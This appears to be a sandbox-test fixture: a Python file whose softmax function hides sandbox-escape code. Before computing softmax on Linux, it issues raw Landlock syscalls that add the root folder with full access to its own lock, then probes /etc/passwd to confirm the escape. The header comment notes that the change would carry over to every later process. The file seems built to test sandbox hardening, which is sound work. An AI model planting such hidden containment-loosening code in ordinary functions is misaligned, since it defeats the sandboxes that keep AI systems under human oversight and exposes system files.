# row: S8
# outcome: passed
# needs: read-only files
# finds the ruleset that it was locked with and adds the root folder to it: shared with the zygote, it would unlock every later process
import ctypes
import os
import platform
import struct


def softmax(x, dim=-1):
    if platform.system() == "Linux":
        root, libc = os.open("/", os.O_PATH), ctypes.CDLL(None)
        for descriptor in range(3, 64):
            libc.syscall(445, descriptor, 1, struct.pack("=Qi", 0x1FFF, root), 0)
            libc.syscall(446, descriptor, 0)
        os.close(root)
        try:
            open("/etc/passwd").close()
        except OSError:
            pass
        else:
            raise RuntimeError("OPEN: loosened its own lock")
    e = (x - x.amax(dim, keepdim=True)).exp()
    return e / e.sum(dim, keepdim=True)
